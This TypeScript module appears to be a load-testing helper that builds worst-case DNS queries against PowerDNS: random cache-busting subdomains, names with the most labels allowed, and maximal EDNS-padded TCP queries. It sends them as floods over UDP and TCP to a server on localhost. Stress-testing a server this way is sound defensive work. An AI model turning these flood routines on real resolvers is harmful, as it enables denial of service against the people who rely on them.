/** Queries of a malicious client, each as expensive for PowerDNS as possible. */
import { randomBytes, randomInt } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { performance } from 'node:perf_hooks';
import { setTimeout as delay } from 'node:timers/promises';
import { encode, RECURSION_DESIRED, type RecordType } from 'dns-packet';

/** Returns a query with another name or other bytes on each call. */
export type Questions = () => Buffer;

const letters = 'abcdefghijklmnopqrstuvwxyz0123456789';

/** Random labels below a zone, so that no answer is cached. */
export function randomNames(zone: string, labels: number, length: number, type: RecordType = 'A'): Questions {
  const label = 'a'.repeat(length);
  const name = [...Array.from({ length: labels }, () => label), zone].join('.');
  const packet = encode({ type: 'query', flags: RECURSION_DESIRED, questions: [{ name, type }] });
  return () => {
    const question = Buffer.from(packet);
    question.writeUInt16BE(randomInt(1 << 16));
    const random = randomBytes(labels * length);
    for (let index = 0; index < random.length; index++) {
      // The header, and before each label its length.
      const at = 12 + Math.floor(index / length) * (length + 1) + 1 + (index % length);
      question[at] = letters.charCodeAt(random[index]! % letters.length);
    }
    return question;
  };
}

/**
 * As many labels as fit into a name (RFC 1035 section 2.3.4). PowerDNS looks up each of them, and a wildcard below it:
 * https://github.com/PowerDNS/pdns/blob/auth-5.1.4/pdns/packethandler.cc
 */
export const deepNames = (zone: string): Questions => randomNames(zone, Math.floor((253 - zone.length) / 2), 1);

/** Queries as long as TCP allows: an unknown EDNS option (RFC 6891 section 6.1.2) with random bytes. */
export function paddedQuestions(name: string, type: RecordType = 'A'): Questions {
  const question = encode({ type: 'query', questions: [{ name, type }] });
  const unknown = 65001;
  const data = 65535 - question.length - 15;
  const head = Buffer.alloc(15);
  head.writeUInt16BE(41, 1);
  head.writeUInt16BE(1232, 3);
  head.writeUInt16BE(data + 4, 9);
  head.writeUInt16BE(unknown, 11);
  head.writeUInt16BE(data, 13);
  question.writeUInt16BE(1, 10);
  return () => Buffer.concat([question, head, randomBytes(data)]);
}

export interface Flood {
  sent: number;
  answered: number;
}

/** Sends `count` queries over UDP: `rate` a second regardless of answers, else at most 100 pending ones. */
export async function floodUDP(
  port: number,
  questions: Questions,
  { count, rate }: { count: number; rate?: number },
): Promise<Flood> {
  const socket = createSocket({ type: 'udp4', recvBufferSize: 4 << 20 });
  socket.connect(port, '127.0.0.1');
  await once(socket, 'connect');
  let [sent, answered] = [0, 0];
  socket.on('message', () => answered++);
  // Queries to a closed port.
  socket.on('error', () => {});
  const began = performance.now();
  let lastProgress = began;
  let seen = 0;
  while (sent < count) {
    const elapsed = performance.now() - began;
    if (answered > seen) [seen, lastProgress] = [answered, performance.now()];
    // Without a rate, lost queries are given up when no answer has arrived for a while.
    if (performance.now() - lastProgress > 200) [seen, lastProgress] = [sent, performance.now()];
    const due = rate === undefined ? Math.max(answered, seen) + 100 : (elapsed * rate) / 1000;
    for (; sent < Math.min(due, count); sent++) socket.send(questions());
    await delay(1);
  }
  await delay(200);
  socket.close();
  return { sent, answered };
}

/** Sends `count` queries over TCP on one connection after another, and waits for each answer. */
export async function floodTCP(port: number, questions: Questions, count: number): Promise<Flood> {
  let [sent, answered] = [0, 0];
  let connection: Connection | undefined;
  while (sent < count) {
    connection ??= await openTCP(port);
    sent++;
    if (await connection.ask(questions())) answered++;
    else {
      connection.close();
      connection = undefined;
    }
  }
  connection?.close();
  return { sent, answered };
}

export interface Connection {
  /** Whether there was an answer before the server closed. */
  ask(question: Buffer): Promise<boolean>;
  /** Whether the server has closed it. */
  closed(): boolean;
  close(): void;
}

/** A TCP connection from an address of this machine, which identifies the client. */
export async function openTCP(port: number, localAddress = '127.0.0.1'): Promise<Connection> {
  const socket: Socket = connect({ port, host: '127.0.0.1', localAddress, noDelay: true });
  let received = Buffer.alloc(0);
  let [isClosed, wake] = [false, () => {}];
  socket.on('data', (chunk) => {
    received = Buffer.concat([received, chunk]);
    wake();
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    isClosed = true;
    wake();
  });
  socket.on('end', () => {
    isClosed = true;
    wake();
  });
  await new Promise<void>((resolve) => socket.once('connect', resolve).once('close', () => resolve()));
  return {
    async ask(question) {
      const length = Buffer.alloc(2);
      length.writeUInt16BE(question.length);
      if (!isClosed) socket.write(Buffer.concat([length, question]));
      while (!isClosed && (received.length < 2 || received.length < 2 + received.readUInt16BE())) {
        await new Promise<void>((resolve) => {
          wake = resolve;
        });
      }
      if (received.length < 2 || received.length < 2 + received.readUInt16BE()) return false;
      received = received.subarray(2 + received.readUInt16BE());
      return true;
    },
    closed: () => isClosed,
    close: () => void socket.destroy(),
  };
}
